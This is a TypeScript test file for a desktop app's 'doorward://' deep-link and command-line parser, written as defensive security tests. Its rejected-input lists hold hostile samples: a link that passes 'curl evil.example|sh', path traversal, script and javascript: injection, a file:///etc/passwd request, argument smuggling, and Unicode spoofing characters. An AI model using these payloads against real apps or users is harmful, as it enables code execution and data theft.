import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { screen } from '../../shared/ipc/window.ts';
import { parseLink } from '../../electron/shell/deep-links.ts';
import { readArguments } from '../../electron/shell/launch-arguments.ts';

/** Every web page can open a `doorward://` link without a word from the person. */
describe('a link that wants more than to show a screen', () => {
  it.each([
    'doorward://server/add?command=curl%20evil.example|sh',
    'doorward://add/evil',
    'doorward://open/servers?add=evil',
    'doorward://open/servers#approve',
    'doorward://open/servers/evil/approve',
    'doorward://open/approve',
    'doorward://open/apps/..%2f..%2fevil',
    'doorward://open/apps/%3Cscript%3E',
    `doorward://open/activity/${'a'.repeat(81)}`,
    'doorward://open',
    'doorward://open/',
    'doorward:open/servers',
    'doorward://user@open/servers',
    'doorward://open:80/servers',
    'doorward://approve/servers',
    'doorward://OPEN.evil/servers',
    'doorward://approval/allow/q1',
    'doorward://open/approval/q1',
    'doorward://open/permissions?allow=mail',
    'doorward://open/permissions#always',
    'doorward://open/permissions/rule/add',
    'doorward://open/needs-you/q1/allow',
    'doorward://allow/permissions',
    'doorward://guard/usual',
    'https://open/servers',
    'javascript:alert(1)',
    `doorward://open/servers/${'x'.repeat(500)}`,
    'doorward://open/servers/a b',
    '',
  ])('means nothing: %s', (url) => {
    expect(parseLink(url)).toBeUndefined();
  });

  it('yields nothing but a screen and a plain name', () => {
    expect(parseLink('doorward://open/servers/files')).toEqual({ screen: 'servers', item: 'files' });
    expect(parseLink('doorward://open/permissions')).toEqual({ screen: 'permissions' });
    expect(parseLink('doorward://open/permissions/always')).toEqual({
      screen: 'permissions',
      item: 'always',
    });
  });

  it('yields nothing else whatever it is made of', () => {
    const word = fc.oneof(
      fc.constantFrom(
        'open',
        'permissions',
        'needs-you',
        'allow',
        'approval',
        'q1',
        'always',
        '?',
        '#',
        '..',
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 5 }), (words) => {
        const to = parseLink(`doorward://${words.join('/')}`);
        if (to === undefined) return;
        if (to.offer !== undefined) return;
        expect(Object.keys(to).filter((key) => key !== 'item')).toEqual(['screen']);
        expect(screen.options).toContain(to.screen);
        expect(to.item ?? 'x').toMatch(/^[\w.-]{1,80}$/);
      }),
    );
  });
});

/** On Windows and Linux the link is a word of the command line, quoted by whoever starts the app. */
describe('a link on the command line', () => {
  it('brings no options along', () => {
    expect(
      readArguments(['doorward://open/apps" ', '--home', String.raw`C:\evil`, '--self-test', '--port=1']),
    ).toEqual({
      home: undefined,
      port: undefined,
      hidden: false,
      selfTest: false,
      link: 'doorward://open/apps" ',
      bundles: [],
    });
    expect(readArguments(['DoorWard:x', '--hidden'])).toMatchObject({ hidden: false });
  });
});

/** `doorward://install?…` fills in a text for a person to read. Attacks 26 and the deep links of other apps. */
describe('a link that brings a server', () => {
  const config = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64');
  const link = (query: Record<string, string>): string =>
    `doorward://install?${new URLSearchParams(query).toString()}`;

  it('fills in the whole configuration, as a text', () => {
    const server = { command: 'npx', args: ['-y', 'notes-server'], env: { A: '1' } };
    expect(parseLink(link({ name: 'notes', config: config(server) }))).toEqual({
      screen: 'servers',
      offer: JSON.stringify({ mcpServers: { notes: server } }, null, 2),
    });
  });

  it('fills in an address', () => {
    expect(parseLink(link({ url: 'https://mcp.example.com/mcp' }))?.offer).toContain(
      '"url": "https://mcp.example.com/mcp"',
    );
  });

  it('shows what is hidden or runs backwards as numbers', () => {
    const offer = parseLink(
      link({ name: '\u202etxt.exe', config: config({ command: 'a\u200bb', args: ['\u{e0041}'] }) }),
    )?.offer;
    expect(offer).toContain(String.raw`"\u202etxt.exe"`);
    expect(offer).toContain(String.raw`a\u200bb`);
    expect(offer).toContain(String.raw`\udb40\udc41`);
  });

  it.each([
    ['no server', {}],
    ['only a name', { name: 'x' }],
    ['a file', { file: 'file:///etc/passwd' }],
    ['an order to approve', { config: config({ command: 'x' }), approve: 'yes' }],
    ['both ways at once', { config: config({ command: 'x' }), url: 'https://a.example' }],
    ['no base64', { config: 'not base64!' }],
    ['a text that is no object', { config: config('x') }],
    ['a list', { config: config([1]) }],
    ['bytes that are no text', { config: Buffer.from([0xff, 0xfe, 0xff]).toString('base64') }],
    ['too deep a text', { config: Buffer.from('['.repeat(4000)).toString('base64') }],
    ['no address', { url: 'not an address' }],
  ] as const)('means nothing with %s', (_, query) => {
    expect(parseLink(link(query))).toBeUndefined();
  });

  it.each([
    'doorward://install/now?url=https://a.example',
    'doorward://install?url=https://a.example&url=https://b.example',
    'doorward://install?url=https://a.example#go',
    `doorward://install?config=${'A'.repeat(8200)}`,
  ])('means nothing in another form: %s', (url) => {
    expect(parseLink(url)).toBeUndefined();
  });

  it('never yields more than a screen and a visible text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), fc.jsonValue(), (name, value) => {
        const to = parseLink(link({ name, config: config(value) }));
        if (to === undefined) return;
        expect(Object.keys(to)).toEqual(['screen', 'offer']);
        expect(to.offer).toMatch(/^[\n\x20-\x7e\p{Script=Latin}]*$/u);
        expect(Object.keys(JSON.parse(to.offer ?? ''))).toEqual(['mcpServers']);
      }),
    );
  });
});
